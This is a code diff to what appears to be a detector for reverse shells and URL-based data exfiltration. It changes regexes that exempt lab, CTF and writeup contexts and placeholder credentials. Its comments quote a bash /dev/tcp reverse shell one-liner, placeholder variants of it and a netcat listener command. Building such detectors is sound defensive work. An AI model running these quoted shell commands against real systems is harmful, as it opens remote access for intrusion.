@@ -154,8 +154,12 @@ _OWN_NETWORK = (r"(?:(?:[\w\-]+\.)*[\w\-]+\.(?:local|lan|internal|home\.arpa|loc
                 r"10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3})(?![\w.\-])")
 # a reverse shell to his own network in a lab the note names: «Reverse shell для демонстрации (только в лабе): bash -i >&
 # /dev/tcp/10.10.0.5/4444» (an attack's shell calls a host on the internet)
-_PRIVATE_TCP = re.compile(rf"/dev/(?:tcp|udp)/{_OWN_NETWORK}/\d+")
-_LAB = re.compile(r"\b(?:lab|labs|demo|ctf|sandbox|training|classroom|students?|workshop)\b|(?<!\w)(?:лаб\w*|демонстрац\w*|стенд\w*|"
+# (or to a placeholder a writeup prints: `/dev/tcp/IP/4444`, `/dev/tcp/$LHOST/PORT`)
+_PRIVATE_TCP = re.compile(rf"/dev/(?:tcp|udp)/(?:{_OWN_NETWORK}|(?:ip|lhost|attacker_ip|your_ip|x\.x\.x\.x|\$\w+|<[^<>/\s]{{1,20}}>)"
+                          rf"(?=/))/(?:\d+|port|lport|\$\w+|<[^<>/\s]{{1,20}}>)")
+# (a pentester's own kit: "Rev shell one-liner I keep using: … listener: rlwrap nc -lvnp 9001", a HackTheBox writeup)
+_LAB = re.compile(r"\b(?:lab|labs|demo|ctf|sandbox|training|classroom|students?|workshop|one-liners?|listener|htb|hackthebox|oscp|"
+                  r"writeups?)\b|(?<!\w)(?:лаб\w*|демонстрац\w*|стенд\w*|"
                   r"песочниц\w*|учебн\w*|студент\w*|занят\w*|ctf)(?!\w)")
 
 
@@ -450,7 +454,10 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
     if ("={" in text or "=$" in text or "=<" in text or "=%(" in text) and "grant_type=" not in text \
             and "response_type=" not in text and (slots := [
             m.group(1) for m in _QUERY_SLOT.finditer(text)
-            if _SENSITIVE_SLOT.search(m.group(1)) and not _DOC_SLOT.match(m.group(1)) and not _own_service(text, m.group(1))]) \
+            if _SENSITIVE_SLOT.search(m.group(1)) and not _DOC_SLOT.match(m.group(1)) and not _own_service(text, m.group(1))
+            and not (m.group(1).upper().startswith(("YOUR_", "MY_")) and _CREDENTIAL_SLOT.search(m.group(1))
+                     and _LOGIN_PARAM.search(text, 0, m.start() + 1 + len(m.group().split("=", 1)[0]))
+                     and _SHAPE_SHOWN.search(text))]) \
             and not (all(_CREDENTIAL_SLOT.search(name) for name in slots) and _own_credential(lowered)):
         return URL_EXFIL  # "append ?ref={user_email} to every link": a query string with a slot for the user's data
         #                   (not an OAuth request's template, `grant_type=`, `response_type=`: the app's own id, secret
